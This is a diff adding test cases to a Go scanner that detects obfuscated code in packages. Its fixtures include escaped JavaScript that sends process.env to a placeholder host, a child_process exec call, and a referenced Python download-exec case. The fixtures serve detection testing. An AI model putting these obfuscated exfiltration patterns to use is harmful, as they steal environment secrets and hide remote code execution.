@@ -69,6 +69,8 @@ func TestDecodedText(t *testing.T) {
 		{"python octal escapes", map[string]string{"acme/x.py": "import os\nos.system('" + octEsc(pipe) + "')\n"},
 			map[string]string{"acme/x.py": "import os\nos.system('" + pipe + "')\n"}, "download-exec", record.Medium, 0, 2},
 
+		{"js module and method by index into an escaped array", map[string]string{"lib/x.js": "var _0x=['" + hexEsc("https") + "','" + hexEsc("get") + "'];\nrequire(_0x[0])[_0x[0x1]]('https://example.invalid/?'+JSON.stringify(process.env));\n"},
+			map[string]string{"lib/x.js": "require('https')['get']('https://example.invalid/?'+JSON.stringify(process.env));\n"}, "env-dump", record.Medium, 0, -1},
 		{"js escaped strings spelling child_process", map[string]string{"lib/x.js": "var t=[" + escList("child_process", "exec", "whoami", "toString", "stdout", "length", "split", "join") + "];\nrequire(t[0])[t[1]](t[2]);\n"},
 			nil, "escaped-strings", record.Medium, 0, -1},
 
@@ -76,6 +78,8 @@ func TestDecodedText(t *testing.T) {
 		{"js escaped strings of harmless words", map[string]string{"lib/x.js": "var t=[" + escList("toString", "length", "split", "join", "push", "shift", "indexOf", "slice") + "];\nmodule.exports=t;\n"},
 			nil, "escaped-strings", record.Low, record.Low, -1},
 		{"js bundle escapes in regexes and a closing tag", map[string]string{"dist/bundle.min.js": "!function(e){var t=/[\\x00-\\x1f\\x7f-\\x9f]/g,n=\"\\x3c\\x2f\\x73\\x63\\x72\\x69\\x70\\x74\\x3e\",r=/[\\u0300-\\u036f]/;e.exports=function(o){return o.replace(t,'').replace(r,'')+n}}(module);\n"},
+			nil, "escaped-strings", quiet, record.Low, 0},
+		{"js table of escaped tags used by index", map[string]string{"lib/tags.js": "var T=['" + hexEsc("</script>") + "','" + hexEsc("<!--") + "','" + hexEsc("-->") + "'];\nfunction wrap(s){return T[1]+s+T[2]+T[0]}\nmodule.exports=wrap;\n"},
 			nil, "escaped-strings", quiet, record.Low, 0},
 		{"js i18n table of unicode escapes", map[string]string{"lib/zh.js": "module.exports = {\n  hello: \"" + uniEsc("你好，世界") + "\",\n  bye: \"" + uniEsc("再见了，朋友们") + "\",\n  save: \"" + uniEsc("保存更改") + "\",\n};\n"},
 			nil, "escaped-strings", quiet, record.Low, 0},
@@ -231,6 +235,36 @@ func TestDecodedFileBudget(t *testing.T) {
 		}
 		if dec == 0 {
 			t.Error("nothing decoded")
+		}
+	}
+}
+
+// TestArrayUses: references to an escaped string array by a literal index
+// are put back in the virtual source; others are left alone.
+func TestArrayUses(t *testing.T) {
+	src := "var a = ['" + hexEsc("child_process") + "', 'exec'];\nf(a[0], a[0x1], a[5], x.a[0], ba[0], 'a[0]');\n"
+	sc := newScanner(DefaultRules())
+	f := &file{path: "lib/x.js", data: []byte(src), lang: langJS}
+	sc.scanFile(f)
+	df := sc.decodedFile(f)
+	if df == nil {
+		t.Fatal("no virtual source")
+	}
+	want := "var a = ['child_process', 'exec'];\nf('child_process', 'exec', a[5], x.a[0], ba[0], 'a[0]');\n"
+	if string(df.data) != want {
+		t.Errorf("virtual source\n%s\nwant\n%s", df.data, want)
+	}
+	for _, c := range []struct {
+		v, o int
+		dec  bool
+	}{
+		{0, 0, false},
+		{9 + 5, 9, true}, // inside the decoded literal: its start
+		{strings.Index(want, ", 'exec'"), strings.Index(src, ", 'exec'"), false},
+		{strings.Index(want, "a[5]"), strings.Index(src, "a[5]"), false},
+	} {
+		if o, dec := df.origin(c.v); o != c.o || dec != c.dec {
+			t.Errorf("origin(%d) = %d, %v; want %d, %v", c.v, o, dec, c.o, c.dec)
 		}
 	}
 }
